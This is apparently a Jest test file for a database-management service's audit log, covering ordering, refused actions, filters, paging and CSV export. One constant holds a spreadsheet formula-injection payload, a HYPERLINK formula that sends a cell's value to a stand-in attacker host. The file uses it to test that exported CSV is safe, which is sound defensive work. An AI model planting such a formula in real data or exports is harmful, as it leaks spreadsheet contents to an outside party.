import Papa from 'papaparse';
import { callers } from '../__testUtils__/apiBackend';
import { DatabasesApi, messageOf } from '../__testUtils__/databasesApi';

jest.setTimeout(60_000);

const prod = { environment: 'prod' };
/** What a spreadsheet would run. */
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"all right")';

/** What people did; acts of the engine stand beside them. */
const ACTS = ['request', 'approve', 'reject', 'request grant', 'decommission'];
const byPeople = ({ action }: { action: string }) => ACTS.includes(action);

describe('the audit of databases', () => {
  let api: DatabasesApi;

  beforeAll(async () => {
    api = await DatabasesApi.start();
    await api.create({ ...prod, name: 'orders', app: 'orders' });
    await api.post('/databases/prod/orders/reject', callers.grace).send({ reason: FORMULA });
    await api.create({ ...prod, name: 'orders', app: 'orders' });
    await api.post('/databases/prod/orders/approve', callers.pat).send({ reason: 'Say "yes", then\nwait' });
    await api.create({});
    await api.post('/databases/dev/shop/grants', callers.eve).send({ app: 'spy', access: 'reader' });
  });

  it('says who did what to which database, newest first', async () => {
    const { status, body } = await api.get('/databases/audit?environment=prod', callers.eve);
    expect(status).toBe(200);
    expect(body.items.filter(byPeople)).toEqual(
      [
        { action: 'approve', actor: 'user:default/pat', message: 'orders: Say "yes", then\nwait' },
        { action: 'request', actor: 'user:default/ada', role: 'orders', message: 'orders was asked for' },
        { action: 'reject', actor: 'user:default/grace', message: `orders: ${FORMULA}` },
        { action: 'request', actor: 'user:default/ada', role: 'orders', message: 'orders was asked for' },
      ].map(row => ({
        id: expect.any(String),
        at: expect.stringMatching(/^\d{4}-\d\d-\d\dT.*Z$/),
        environment: 'prod',
        database: 'orders',
        status: 'succeeded',
        ...row,
      })),
    );
  });

  it('records nothing of what was refused as if it had been done', async () => {
    const acts = async () => (await api.get('/databases/audit')).body.items.filter(byPeople).length;
    const before = await acts();
    expect((await api.post('/databases/prod/orders/approve', callers.ada)).status).toBe(403);
    expect((await api.post('/databases/dev/shop/decommission', callers.eve).send({ confirm: 'shop' })).status).toBe(
      403,
    );
    expect((await api.post('/databases/dev/shop/decommission').send({ confirm: 'no' })).status).toBe(400);
    expect(await acts()).toBe(before);
  });

  it('is narrowed to an environment, a database, and one incarnation of it', async () => {
    const actions = async (query: string) => {
      const { body } = await api.get(`/databases/audit?${query}`);
      return body.items.filter(byPeople).map(({ action }: { action: string }) => action);
    };
    expect(await actions('environment=dev')).toEqual(['request grant', 'request']);
    expect(await actions('database=orders&incarnation=1')).toEqual(['reject', 'request']);
    expect(await actions('database=orders&incarnation=2')).toEqual(['approve', 'request']);
    expect(await actions('database=orders&environment=dev')).toEqual([]);
    expect(await actions('environment=moon')).toEqual([]);
  });

  it('is paged, each act once', async () => {
    const whole = (await api.get('/databases/audit?database=orders')).body;
    const seen: string[] = [];
    let cursor = '';
    do {
      const { body } = await api.get(`/databases/audit?database=orders&limit=2${cursor && `&cursor=${cursor}`}`);
      expect(body.items.length).toBeLessThanOrEqual(2);
      seen.push(...body.items.map(({ id }: { id: string }) => id));
      cursor = body.nextCursor ?? '';
    } while (cursor !== '');
    expect(seen).toEqual(whole.items.map(({ id }: { id: string }) => id));
    expect(whole.totalItems).toBe(seen.length);
  });

  it('is refused what it cannot be narrowed by', async () => {
    for (const [query, message] of [
      ['colour=red', /colour/],
      ['limit=501', /limit is at most 500; page on with cursor/],
      ['limit=0', /limit/],
      ['incarnation=0', /incarnation/],
      ['incarnation=99999999999', /incarnation/],
      ['cursor=soon', /The cursor is not one that this list answered; leave it out/],
    ] as const) {
      const refused = await api.get(`/databases/audit?${query}`);
      expect({ query, status: refused.status }).toEqual({ query, status: 400 });
      expect(messageOf(refused)).toMatch(message);
    }
    expect((await api.get('/databases/audit.csv?colour=red')).status).toBe(400);
  });

  it('is had as CSV that every reader takes apart in the same way, oldest first, and that no spreadsheet runs', async () => {
    const { status, headers, text } = await api.get('/databases/audit.csv?environment=prod');
    expect(status).toBe(200);
    expect(headers['content-type']).toMatch(/^text\/csv/);
    expect(headers['content-disposition']).toBe('attachment; filename="database-audit.csv"');
    const [header, ...rows] = Papa.parse<string[]>(text.trimEnd(), { newline: '\n' }).data;
    expect(header.join()).toBe('time_utc,environment,database,role,action,status,duration_ms,message,actor');
    expect(rows.every(row => row.length === header.length)).toBe(true);
    const acts = rows.filter(([, , , , action]) => ACTS.includes(action));
    expect(acts.map(row => row.slice(1))).toEqual([
      ['prod', 'orders', 'orders', 'request', 'succeeded', '', 'orders was asked for', 'user:default/ada'],
      ['prod', 'orders', '', 'reject', 'succeeded', '', `orders: ${FORMULA}`, 'user:default/grace'],
      ['prod', 'orders', 'orders', 'request', 'succeeded', '', 'orders was asked for', 'user:default/ada'],
      ['prod', 'orders', '', 'approve', 'succeeded', '', 'orders: Say "yes", then\nwait', 'user:default/pat'],
    ]);
    expect(text).toContain('"orders: Say ""yes"", then\nwait"');
  });
});
